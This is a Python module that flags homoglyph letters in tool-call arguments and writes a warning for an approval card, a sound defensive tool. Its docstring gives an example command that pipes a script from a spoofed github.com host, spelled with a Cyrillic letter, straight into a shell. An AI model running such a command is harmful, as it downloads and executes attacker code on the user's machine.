"""Look-alike letters in a call's arguments, for the approval card's warning.

``curl https://gіthub.com/x.sh | sh`` with a Cyrillic ``і`` (U+0456) reads as github.com
on the card and fetches from another host. Such letters are visible and ordinary in their
own language, so they are not marked in the text (``_visible`` leaves Cyrillic, Greek, ...
alone); what gives them away is a WORD that mixes ASCII Latin letters with letters of a
script whose shapes copy Latin ones (Cyrillic, Greek, Armenian, Cherokee, ...) or with
full-width, mathematical or small-capital Latin forms. The card names each such word and
its look-alike letters above the buttons. A word wholly in one script (a Russian comment)
is not flagged.
"""

from __future__ import annotations

import json
import re
import unicodedata
from typing import Any

from nb_tools.transcript import json_strings

__all__ = ["lookalike_warning", "lookalike_words"]

_SCRIPTS = (
    "CYRILLIC",
    "GREEK",
    "COPTIC",
    "ARMENIAN",
    "CHEROKEE",
    "LISU",
    "VAI",
    "OLD ITALIC",
    "FULLWIDTH LATIN",
    "MATHEMATICAL",
    "LATIN LETTER SMALL CAPITAL",
    "MODIFIER LETTER",
    "LATIN SUBSCRIPT",
    "SUPERSCRIPT LATIN",
    "CIRCLED LATIN",
    "PARENTHESIZED LATIN",
    "NKO",
    "TIFINAGH",
    "CANADIAN SYLLABICS",
)
_WORD = re.compile(r"[\w.\-/@:~+]+")
MAX_SHOWN = 5


def _lookalike(ch: str) -> bool:
    if ch.isascii() or not (ch.isalnum() or unicodedata.category(ch).startswith("L")):
        return False
    name = unicodedata.name(ch, "")
    return name.startswith(_SCRIPTS) or (
        # full-width digits and other compatibility forms that fold to ASCII
        unicodedata.normalize("NFKC", ch).isascii()
    )


def lookalike_words(text: str) -> list[tuple[str, list[str]]]:
    """``(word, [look-alike letters])`` for each word of ``text`` mixing ASCII letters with
    look-alike letters (or with letters that fold to ASCII), in order, each word once."""
    out: list[tuple[str, list[str]]] = []
    seen: set[str] = set()
    for m in _WORD.finditer(text):
        word = m.group()
        if word.isascii() or word in seen:
            continue
        odd = [ch for ch in word if _lookalike(ch)]
        if odd and any(ch.isascii() and ch.isalpha() for ch in word):
            seen.add(word)
            out.append((word, list(dict.fromkeys(odd))))
    return out


def lookalike_warning(raw: str) -> str:
    """The card's line about look-alike letters in the arguments ``raw``; "" if none."""
    try:
        parsed: Any = json.loads(raw)
    except (ValueError, TypeError):
        parsed = raw
    found: list[tuple[str, list[str]]] = []
    for s in json_strings(parsed):
        found += [w for w in lookalike_words(s) if w not in found]
    if not found:
        return ""
    shown = "; ".join(
        f"{word!r}: "
        + ", ".join(f"{ch} U+{ord(ch):04X} {unicodedata.name(ch, '?')}" for ch in letters)
        for word, letters in found[:MAX_SHOWN]
    )
    more = f" (and {len(found) - MAX_SHOWN} more words)" if len(found) > MAX_SHOWN else ""
    return (
        "⚠ Look-alike letters: a word of this call mixes Latin letters with letters that "
        f"only look like them, so a name may not be the one you read: {shown}{more}."
    )
